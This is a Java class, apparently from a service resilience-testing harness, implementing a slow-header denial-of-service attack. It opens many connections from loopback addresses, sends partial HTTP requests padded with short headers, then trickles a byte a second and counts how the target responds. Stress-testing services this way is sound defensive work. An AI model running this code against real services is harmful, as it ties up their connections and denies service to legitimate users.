package dev.storescope.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;

/**
 * Opens connections from several addresses, sends a part of a request with many short headers on
 * each, and then a byte a second.
 *
 * @param partBytes the length of the part
 */
record HalfOpenConnections(int connections, int addresses, int partBytes) implements Attack {
  private static final String BEGIN = "GET /api/countries HTTP/1.1\r\nHost: a\r\n";
  private static final int LONGEST_HEADER = 12;
  private static final long PAUSE_MILLIS = 1_000;

  @Override
  public String name() {
    return String.format(
        Locale.ROOT,
        "%,d half-open requests of %,d bytes from %d addresses",
        connections,
        partBytes,
        addresses);
  }

  @Override
  public void run(AttackedService target, AnswerCounts answers, Deadline end)
      throws InterruptedException {
    List<Socket> open = new ArrayList<>();
    byte[] part = part().getBytes(StandardCharsets.US_ASCII);
    for (int i = 0; i < connections && !end.isOver(); i++) {
      try {
        Socket socket = new RawRequest(target.uri(), "127.0.1." + (1 + i % addresses)).connect();
        socket.getOutputStream().write(part);
        open.add(socket);
      } catch (IOException e) {
        answers.add(AnswerCounts.CLOSED);
      }
    }
    while (!end.isOver()) {
      sendByte(open, answers);
      end.pause(PAUSE_MILLIS);
    }
    for (Socket socket : open) {
      answers.add(AnswerCounts.NO_ANSWER);
      closeQuietly(socket);
    }
  }

  private String part() {
    StringBuilder part = new StringBuilder(BEGIN);
    for (int header = 0; part.length() < partBytes - LONGEST_HEADER; header++) {
      part.append("X-").append(header).append(":a\r\n");
    }
    return part + "X-";
  }

  private static void sendByte(List<Socket> open, AnswerCounts answers) {
    for (Iterator<Socket> each = open.iterator(); each.hasNext(); ) {
      Socket socket = each.next();
      try {
        socket.getOutputStream().write('a');
      } catch (IOException e) {
        answers.add(AnswerCounts.CLOSED);
        closeQuietly(socket);
        each.remove();
      }
    }
  }

  private static void closeQuietly(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      // The service closed it first.
    }
  }
}
